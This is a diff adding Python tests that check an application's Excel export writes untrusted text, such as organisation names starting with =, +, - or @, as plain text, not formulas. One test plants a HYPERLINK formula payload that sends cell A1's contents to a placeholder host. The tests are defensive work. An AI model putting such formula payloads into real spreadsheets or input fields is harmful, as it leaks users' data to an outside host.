@@ -141,3 +141,23 @@ def test_pdf_export_is_scoped_like_the_dashboard(counted, world):
     assert_may_not(w.nobody, EXPORT_PDF)
     assert_login_required(EXPORT_PDF)
     assert 'href="/staff/supervision/export.pdf?year=' in assert_may(w.fgj_clerk, DASH).content.decode()
+
+
+def test_excel_cells_from_untrusted_text_are_never_formulas(counted):
+    """An organ's name (or any text a report or a person supplied) beginning with = + - @ is written as text."""
+    w = counted
+    w.jyj.name = '=HYPERLINK("http://example.invalid/?x="&A1,"点此")'
+    w.jyj.save(update_fields=["name"])
+    wb = openpyxl.load_workbook(io.BytesIO(assert_may(w.district_supervisor, EXPORT + "?year=2025").content))
+    names = [row[1] for row in wb["考评"].iter_rows(min_row=3, values_only=True)]
+    assert "'" + w.jyj.name in names
+    assert not any(isinstance(n, str) and n.startswith("=") for n in names)
+    assert all(c.data_type != "f" for row in wb["考评"].iter_rows() for c in row)
+
+
+def test_neutral_cells():
+    from gongkai.core.cells import neutral, neutral_row
+
+    assert neutral_row(["=1+2", "+1", "-A1", "@SUM(A1)", "\t=1", "＝1", "岭东区", 3, None, -2]) == [
+        "'=1+2", "'+1", "'-A1", "'@SUM(A1)", "'\t=1", "'＝1", "岭东区", 3, None, -2]
+    assert neutral("") == ""
